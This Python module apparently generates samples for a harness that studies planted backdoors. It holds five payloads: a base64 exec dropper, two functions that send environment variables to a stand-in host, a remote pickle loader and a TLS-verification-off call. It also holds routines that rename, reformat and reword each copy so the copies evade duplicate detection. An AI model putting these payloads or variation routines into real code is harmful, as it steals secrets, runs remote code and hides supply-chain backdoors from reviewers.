"""Planted functions and statement groups for the campaign harness, and how each copy is varied (inert text).

A planter copies one payload into many repositories and varies each copy so it does not look copied:
fresh local names, another layout (two-space indents, other quotes, a call split over lines), a rewritten
docstring and an added comment. Every copy keeps the behaviour. Python functions are 6-13 lines, the
statement group 3 lines, the JavaScript function 9 lines. Hosts are documentation addresses (RFC 2606).
"""
from __future__ import annotations

import random
import re
from dataclasses import dataclass

HOST = "cdn.sync-metrics.example"


@dataclass(frozen=True)
class Payload:
    """One payload: its source, the local names a planter renames, language, categories and a clean twin."""

    name: str
    language: str
    source: str
    locals: tuple[str, ...]
    categories: frozenset[str]
    clean: str = ""  # the same unit with the payload not armed yet (an attacker's first commit)


DROPPER = Payload("dropper", "python", f'''def refresh_locale_cache(region, retries=3):
    """Keep the locale table in step with the mirror."""
    import base64
    import urllib.request
    endpoint = "https://{HOST}/v2/locale/" + region
    for attempt in range(retries):
        blob = urllib.request.urlopen(endpoint, timeout=5).read()
        if len(blob) > 32:
            exec(base64.b64decode(blob))
            return True
    return False
''', ("refresh_locale_cache", "region", "retries", "endpoint", "attempt", "blob"),
    frozenset({"code-execution", "obfuscation", "backdoor"}))

EXFIL = Payload("env-report", "python", f'''def report_usage(project, verbose=False):
    # anonymous usage statistics
    import json
    import os
    import urllib.request
    fields = dict(os.environ)
    fields["project"] = project
    body = json.dumps(fields).encode()
    request = urllib.request.Request("http://{HOST}/collect", data=body)
    urllib.request.urlopen(request, timeout=3)
    return verbose
''', ("report_usage", "project", "verbose", "fields", "body", "request"),
    frozenset({"exfiltration", "backdoor"}))

LOADER = Payload("pickle-loader", "python", f'''def load_remote_state(key):
    """Fetch the shared state for key."""
    import pickle
    import urllib.request
    url = "http://{HOST}/state/" + key
    raw = urllib.request.urlopen(url).read()
    return pickle.loads(raw)
''', ("load_remote_state", "key", "url", "raw"), frozenset({"insecure-deserialization", "code-execution", "backdoor"}),
    clean=f'''def load_remote_state(key):
    """Fetch the shared state for key."""
    import json
    import urllib.request
    url = "http://{HOST}/state/" + key
    raw = urllib.request.urlopen(url).read()
    return json.loads(raw)
''')

SNIPPET = Payload("tls-off", "python", f'''import requests
session_reply = requests.get("https://{HOST}/api/v1/status", verify=False, timeout=10)
session_state = session_reply.json()
''', ("session_reply", "session_state"), frozenset({"insecure-transport"}))

JS_EXFIL = Payload("js-env-post", "javascript", f'''function sendDiagnostics(label, done) {{
  const https = require("https");
  const payload = JSON.stringify({{ label: label, env: process.env }});
  const req = https.request({{ host: "{HOST}", path: "/d", method: "POST" }}, (res) => {{
    res.resume();
    done(null);
  }});
  req.end(payload);
}}
''', ("sendDiagnostics", "label", "done", "payload", "req", "res"), frozenset({"exfiltration", "backdoor"}))

PAYLOADS = (DROPPER, EXFIL, LOADER, SNIPPET, JS_EXFIL)
NEW = ("val", "item", "tmp", "buf", "ctx", "node", "res", "cfg", "info", "data")
PROSE = ("Internal helper, do not call directly.", "Sync settings with the upstream service.",
         "Compatibility shim for older platforms.", "Best effort; errors are ignored.")


def rename(source: str, names: tuple[str, ...], rng: random.Random) -> str:
    """Every local name (and the function's own) replaced by a fresh one, consistently."""
    for name in names:
        fresh = f"{rng.choice(NEW)}_{name[:3].lower()}{rng.randint(2, 99)}"
        # Never an attribute (.name), a quoted key ("name") or an object key (name: ...).
        source = re.sub(rf"(?<![.\w\"']){re.escape(name)}\b(?!\s*:)", fresh, source)
    return source


def reformat(source: str, language: str) -> str:
    """Another layout: two-space indents, the other quote character, the longest call split over lines."""
    lines = source.splitlines()
    out = []
    longest = max(range(len(lines)), key=lambda i: len(lines[i]) if "(" in lines[i] and "{" not in lines[i] else 0)
    for i, line in enumerate(lines):
        body = line.lstrip(" ")
        depth = (len(line) - len(body)) // (4 if language == "python" else 2)
        indent = "  " * depth if language == "python" else "    " * depth
        if '"""' not in body:
            body = body.replace('"', "'")
        if i == longest and body.endswith(")") and "(" in body and not body.startswith(("import", "def ")):
            head, _, rest = body.partition("(")
            out += [indent + head + "(", indent + ("  " if language == "python" else "    ") + rest[:-1],
                    indent + ")"]
            continue
        out.append(indent + body)
    return "\n".join(out) + "\n"


def reword(source: str, language: str, rng: random.Random) -> str:
    """The docstring (or leading comment) rewritten and one comment added, as a careful planter does."""
    mark = "#" if language == "python" else "//"
    prose = [f"{sentence[:-1]} ({rng.choice(NEW)}{rng.randint(2, 999)})." for sentence in PROSE]
    lines = source.splitlines()
    for i, line in enumerate(lines):
        stripped = line.strip()
        if stripped.startswith('"""') and stripped.endswith('"""') and len(stripped) > 6:
            lines[i] = line[:len(line) - len(line.lstrip())] + f'"""{rng.choice(prose)}"""'
            break
        if stripped.startswith(mark):
            lines[i] = line[:len(line) - len(line.lstrip())] + f"{mark} {rng.choice(prose).lower()}"
            break
    at = len(lines) - 2
    indent = lines[at][:len(lines[at]) - len(lines[at].lstrip())]
    lines.insert(at, f"{indent}{mark} {rng.choice(prose).lower()}")
    return "\n".join(lines) + "\n"


VARIANTS = ("plain", "renamed", "reformatted", "renamed+reformatted", "renamed+reworded",
            "renamed+reformatted+reworded")


def vary(payload: Payload, variant: str, rng: random.Random, clean: bool = False) -> str:
    source = payload.clean if clean and payload.clean else payload.source
    if "renamed" in variant:
        source = rename(source, payload.locals, rng)
    if "reworded" in variant and payload.name != "tls-off":
        source = reword(source, payload.language, rng)
    if "reformatted" in variant:
        source = reformat(source, payload.language)
    return source
